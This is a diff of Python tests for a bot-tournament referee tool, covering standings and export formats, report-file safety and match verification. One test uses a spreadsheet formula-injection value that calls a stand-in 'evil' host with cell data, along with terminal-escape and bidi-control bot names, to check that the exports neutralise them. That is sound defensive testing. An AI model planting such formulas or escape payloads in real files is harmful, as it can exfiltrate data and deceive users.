+            assert [*map(int, found["ranks"].split())] == [*line.ranks]
+            assert [*map(int, found["scores"].split())] == [*line.scores]
+            assert float(found["seconds"]) == line.seconds
+            for name in ("deal", "seed", "turns", "reason", "digest"):
+                assert found[name] == str(getattr(line, name))
+    used = {name for found in rows for name in names.values() if name in found["players"]}
+    assert used == set(names.values())
+
+
+FORMULA = '=HYPERLINK("http://evil/?"&A1)'
+
+
+def test_what_a_stranger_calls_itself_neither_runs_nor_drives_a_terminal(
+    commands: Commands,
+) -> None:
+    driving = "\x1b[2J\x9b\u202e\u2066\n"
+    commands.result = lambda plan: row(
+        plan,
+        names=[FORMULA, f"@{driving}"],
+        ranks=[1, 2],
+        reason=f"-{driving}",
+        digest=f"+{driving}",
+        faults=[{}, {f"<b>{driving}": 1}],
+        left=[None, left(f"{driving}=1")],
+    )
+    names = ["=x", "-y"]
+    tables = "".join(f"[[bot]]\nname = '{name}'\ncommand = 'minimal'\n" for name in names)
+    Path("night.toml").write_text(tables)
+    seen = [commands.tournament("--config", "night.toml", "--deals", "1")]
+    seen.append(commands.run("standings", commands.store, "--bot=-y"))
+    seen.append(commands.run("standings", commands.store, "--format", "html"))
+    seen.append(commands.run("standings", commands.store, "--format", "csv"))
+    cells = [(bot["name"], bot["calls_itself"]) for bot in csv.DictReader(seen[-1].splitlines())]
+    assert [name for name, _ in sorted(cells)] == ["'-y", "'=x"]
+    assert all(own[:2] in ("'=", "'@") for _, own in cells)
+    seen.append(commands.run("export", commands.store))
+    for match in csv.DictReader(seen[-1].splitlines()):
+        assert match["players"] in ("'=x -y", "'-y =x")
+        assert match["reason"] == r"'-\x1b[2J\x9b\u202e\u2066\n"
+        assert match["digest"][:2] == "'+"
+        assert match["ranks"] == "1 2"
+    for text in seen:
+        assert all(line.isprintable() for line in text.split("\n"))
+
+
+def test_a_report_is_not_written_over_what_it_is_of(commands: Commands) -> None:
+    commands.tournament(*BOTS, "--deals", "1", "--seed", "1")
+    before = Path(commands.store).read_bytes()
+    Path("link").symlink_to(commands.store)
+    for command in (["standings", commands.store], ["export", commands.store]):
+        commands.run(*command, "--output", "link", code=2)
+        assert f"link and {commands.store} are the same file" in one_line(commands.err)
+    commands.run("verify", "--store", commands.store, "--output", commands.store, code=2)
+    assert Path(commands.store).read_bytes() == before
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["standings"],
+        ["standings", "--format", "csv"],
+        ["standings", "--format", "html"],
+        ["export"],
+        ["export", "--format", "jsonl"],
+    ],
+)
+def test_output_names_the_file_that_is_written(
+    commands: Commands, words: list[str], tmp_path: Path
+) -> None:
+    commands.tournament(*BOTS, "--deals", "1", "--seed", "1")
+    file = tmp_path / "report"
+    command, *options = words
+    printed = commands.run(command, commands.store, *options)
+    assert commands.run(command, commands.store, *options, "--output", str(file)) == ""
+    assert file.read_text() == printed
+
+
+def test_a_slip_of_the_keyboard_empties_no_report(commands: Commands, tmp_path: Path) -> None:
+    file = tmp_path / "report"
+    file.write_text("precious")
+    commands.tournament(*BOTS, "--deals", "1", "--seed", "1")
+    done = referee("standings", commands.store, "--bot", "nobody", "--output", str(file))
+    assert done.returncode == 2
+    assert file.read_text() == "precious"
+
+
+def test_export_as_jsonl(commands: Commands) -> None:
+    commands.result = exported
+    commands.tournament(*BOTS, "--deals", "1")
+    rows = [
+        json.loads(line)
+        for line in commands.run("export", commands.store, "--format", "jsonl").splitlines()
+    ]
+    assert [row["match"] for row in rows] == [0, 1, 3, 4, 5]
+    assert all([*row] == COLUMNS for row in rows)
+    assert rows[1]["disqualified"] == [None, "timeout"]
+    assert rows[1]["faults"] == [0, 3]
+    assert set(rows[0]["players"]) < {"minimal", "big_money", "new"}
+    assert all(isinstance(row["ranks"], list) for row in rows)
+
+
+# --- with real matches ----------------------------------------------------------------------------
+
+
+def test_watching_until_ctrl_c(commands: Commands) -> None:
+    commands.tournament(*BOTS, "--deals", "2")
+    command = [sys.executable, "-m", "referee", "standings", commands.store, "--watch"]
+    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as watching:
+        assert watching.stdout is not None
+        assert "12 of 12 matches" in watching.stdout.readline()
+        watching.send_signal(signal.SIGINT)
+        watching.communicate(timeout=60)
+    assert watching.returncode == 130
+
+
+def test_a_reader_that_has_seen_enough(commands: Commands) -> None:
+    commands.tournament(*BOTS, "--deals", "60")
+    for words in (["standings"], ["export"]):
+        command = [sys.executable, "-m", "referee", *words, commands.store]
+        reader, writer = os.pipe()
+        os.close(reader)
+        done = subprocess.run(command, stdout=writer, stderr=subprocess.PIPE, timeout=60)
+        os.close(writer)
+        assert (done.returncode, done.stderr) == (141, b"")
+
+
+def test_real_matches_verify(tmp_path: Path) -> None:
+    """Played again or run again they are the same; a result that was edited is found."""
+    bot = tmp_path / "bot.py"
+    source = (Path(__file__).parents[3] / "example_bots" / "dominion" / "minimal.py").read_text()
+    bot.write_text(source)
+    store, records = str(tmp_path / "s.sqlite"), tmp_path / "records"
+    words = ["tournament", "big_money", f"mine={sys.executable} {bot}", "--deals", "1", "-q"]
+    words += ["--store", store, "--jobs", "1", "--seed", "3", "--records", str(records)]
+    words += ["--max-turns", "20"]
+    done = referee(*words)
+    assert (done.returncode, done.stderr) == (0, "")
+    assert sorted(path.name for path in records.iterdir()) == [
+        "000000.record.jsonl.zst",
+        "000001.record.jsonl.zst",
+    ]
+    (records / "000001.record.jsonl.zst").unlink()
+    check = ["verify", "--store", store, "--jobs", "1"]
+    done = referee(*check, "--records-of", str(records))
+    assert (done.returncode, done.stderr) == (0, "")
+    assert done.stdout == (
+        "2 matches: 1 run again from their records and 1 played again are the same, 0 are not\n"
+    )
+    with sqlite3.connect(store) as connection:
+        connection.execute("UPDATE matches SET digest = 'sha256:0' WHERE match = 0")
+    connection.close()
+    bot.write_text(source.replace('"silver": 3', '"silver": 4'))
+    done = referee(*check)
+    assert done.returncode == 1
+    first, second, summary = done.stdout.splitlines()
+    for number, line in enumerate((first, second)):
+        assert line.startswith(f"match {number}: played again it went otherwise (digest sha256:")
+    assert summary.endswith("0 played again are the same, 2 are not")
+    done = referee(*check, "--records-of", str(records), "--sample", "1", "--format", "json")
+    assert done.returncode == 1
+    assert json.loads(one_line(done.stdout))["match"] in (0, 1)
+    assert end_left_behind(5.0) == []
